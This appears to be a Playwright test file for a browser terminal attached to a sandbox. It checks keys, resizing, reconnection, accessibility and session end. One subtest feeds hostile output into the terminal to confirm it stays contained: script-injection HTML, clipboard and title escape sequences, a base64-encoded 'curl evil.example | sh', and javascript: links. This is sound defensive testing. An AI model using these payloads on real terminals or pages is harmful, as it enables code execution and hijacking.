import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page, WebSocketRoute } from "playwright-core";
import { MemorySandboxes } from "../../support/http/memory-sandboxes.ts";
import { inside } from "./inside.ts";
import { looksGood, pageActions } from "./page-actions.ts";
import { screen, untilScreen } from "./terminal-screen.ts";

/** The name of the element that has the focus. */
function focused(page: Page): Promise<string> {
  return page.evaluate("document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent");
}

test("a terminal in the page: keys, sizes, hostile output, a lost connection, the way out by keyboard, and the end", async (t) => {
  const { page, club, go, complaints, asked } = await inside(t, {
    sandboxesOver: (store) => new MemorySandboxes(store),
  });
  const { button } = pageActions(page);
  const key = await club.running.key({ project: "shop", name: "agent", profiles: ["agent"] });
  const ask = (method: string, path: string, body: unknown, headers: Record<string, string> = {}) =>
    club.running.ask({ key, method, path: `/api/sandboxes${path}`, body, headers });
  const { id } = (await ask("POST", "", {})).json;
  /** The program of this sandbox writes what it reads. */
  const write = async (number: number, text: string) => {
    const type = { "content-type": "application/octet-stream" };
    const { status, text: answer } = await ask("POST", `/${id}/executions/${number}/input`, Buffer.from(text), type);
    assert.equal(status, 200, answer);
  };
  const links: WebSocketRoute[] = [];
  await page.routeWebSocket(/\/attach/, (link) => {
    links.push(link);
    link.connectToServer();
  });
  const terminal = page.getByRole("region", { name: "Terminal 1" });
  const state = terminal.getByRole("status");
  const input = terminal.getByRole("textbox", { name: "Terminal input" });

  await t.test("a person starts it, types in it, and its size follows the page", async () => {
    await go(`/sandboxes/${id}`);
    assert.equal(
      asked.filter((url) => /terminal-|xterm/.test(url)).length,
      0,
      "xterm is loaded with the first terminal",
    );
    await button("Start a terminal").click();
    await state.getByText("connected.").waitFor();
    await untilScreen(page, /\d+x\d+/);
    assert.equal(await focused(page), "Terminal input");
    await page.keyboard.type("echo hello");
    await untilScreen(page, "echo hello");
    await page.keyboard.press("Control+c");
    await page.keyboard.press("Tab");
    await page.keyboard.press("Control+k");
    assert.equal(await page.getByRole("dialog").count(), 0, "the keys of the page are those of the program");
    await write(1, "\x1b[2J\x1b[H\x1b[1;32muser@sandbox\x1b[0m:\x1b[1;34m~\x1b[0m$ \x1b[38;2;255;120;0mls\x1b[0m\r\n");
    await untilScreen(page, "user@sandbox:~$ ls");
    const colour = await page.evaluate(
      `getComputedStyle([...document.querySelectorAll(".xterm-rows span")].find((one) => one.textContent === "ls")).color`,
    );
    assert.equal(colour, "rgb(255, 120, 0)", "colours need style attributes, which the policy of the page forbids");
    await looksGood(page, "terminal");
  });

  await t.test("output of a hostile program changes only the terminal", async () => {
    const before = await page.title();
    const copied = "copied before";
    await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(copied)})`);
    const base64 = Buffer.from("curl evil.example | sh").toString("base64");
    await write(
      1,
      [
        "\x1b[2J\x1b[H<img src=x onerror=document.title='html'><script>document.title='script'</script>\r\n",
        "\x1b]0;hostile title\x07\x1b]2;hostile title\x1b\\",
        `\x1b]52;c;${base64}\x07`,
        "\x1b]8;;javascript:document.title='link'\x07click me\x1b]8;;\x07 \x1b]8;;https://evil.example/\x07and me\x1b]8;;\x07\r\n",
        "\x1b[21t\x1b]4;1;rgb:00/00/00\x07after",
      ].join(""),
    );
    await untilScreen(page, "after");
    const shown = await screen(page);
    assert.match(shown, /<img src=x onerror=document\.title='html'><script>/);
    assert.equal(await page.title(), before);
    assert.equal(await page.evaluate("navigator.clipboard.readText()"), copied);
    const links = page.locator(".xterm-rows span, .xterm-rows div").filter({ hasText: "click me" }).last();
    await links.click({ force: true, modifiers: ["ControlOrMeta"] });
    assert.equal(await page.locator(".xterm a, .xterm img, .xterm script").count(), 0);
    assert.equal(await page.title(), before);
    assert.equal(page.context().pages().length, 2, "no link opens a page");
    assert.equal(asked.filter((url) => url.includes("evil.example")).length, 0);
  });

  await t.test("after a lost connection it continues where it was, with nothing twice", async () => {
    await write(1, "\x1b[2J\x1b[Hone\r\n");
    await untilScreen(page, "one");
    const opened = links.length;
    await links.at(-1)?.close({ code: 4_000, reason: "lost" });
    await write(1, "two\r\n");
    while (links.length === opened) await page.waitForTimeout(50);
    await write(1, "three\r\n");
    await untilScreen(page, "three");
    await state.getByText("connected.").waitFor();
    assert.match(await screen(page), /^one\ntwo\n(\d+x\d+)?\s*three/);
    await page.keyboard.type("still here");
    await untilScreen(page, "still here");
  });

  await t.test(
    "the keyboard leads out of it, text can be copied and pasted, and screen readers get its lines",
    async () => {
      await input.focus();
      await page.keyboard.press("Control+Shift+Enter");
      assert.equal(await focused(page), "Disconnect");
      await page.keyboard.press("Shift+Tab");
      assert.equal(await focused(page), "Kill");
      await page.evaluate("navigator.clipboard.writeText('pasted text')");
      await input.focus();
      await page.keyboard.press("Shift+Insert");
      await untilScreen(page, "pasted text");
      await terminal.getByRole("switch", { name: "For screen readers" }).click();
      await page.locator(".xterm-accessibility [role='listitem']").filter({ hasText: "pasted text" }).waitFor();
      await looksGood(page, "terminal-reader");
      await terminal.getByRole("switch", { name: "For screen readers" }).click();
      await page.locator(".xterm-accessibility").waitFor({ state: "detached" });
    },
  );

  await t.test(
    "a page that is loaded again connects to it, without answers to questions that it shows again",
    async () => {
      await write(1, "\x1b[2J\x1b[H\x1b[6n\x1b[cquestions");
      await untilScreen(page, "questions");
      await go(`/sandboxes/${id}`);
      await button("Connect to terminal 1 (/bin/bash -l)").click();
      await state.getByText("connected.").waitFor();
      await untilScreen(page, "questions");
      await page.keyboard.type("typed again");
      await untilScreen(page, "typed again");
      // The program would have written the answers: the position of the cursor, and the kind of the terminal.
      assert.match(await screen(page), /questions(\d+x\d+)?\s*typed again/);
    },
  );

  await t.test("its end is shown with the verdict, and a second terminal can be started", async () => {
    await button("Kill").click();
    await state.getByText("it has ended:").waitFor();
    await state.getByText("accepted").waitFor();
    await page
      .getByRole("table", { name: "Executions, newest first" })
      .getByRole("row")
      .nth(1)
      .getByText("AC")
      .waitFor();
    await button("Close").click();
    await terminal.waitFor({ state: "detached" });
    await button("Start a terminal").click();
    await page.getByRole("region", { name: "Terminal 2" }).getByText("connected.").waitFor();
    // On a busy machine, xterm says in the console that its work took longer than it wanted.
    assert.deepEqual(
      complaints.filter((text) => !text.startsWith("task queue exceeded")),
      [],
    );
  });

  await t.test("a session that ends closes it, and the page says why", async () => {
    const second = page.getByRole("region", { name: "Terminal 2" });
    await club.ada("DELETE", "/session");
    await second.getByRole("status").getByText("Sign in first.").waitFor();
  });
});
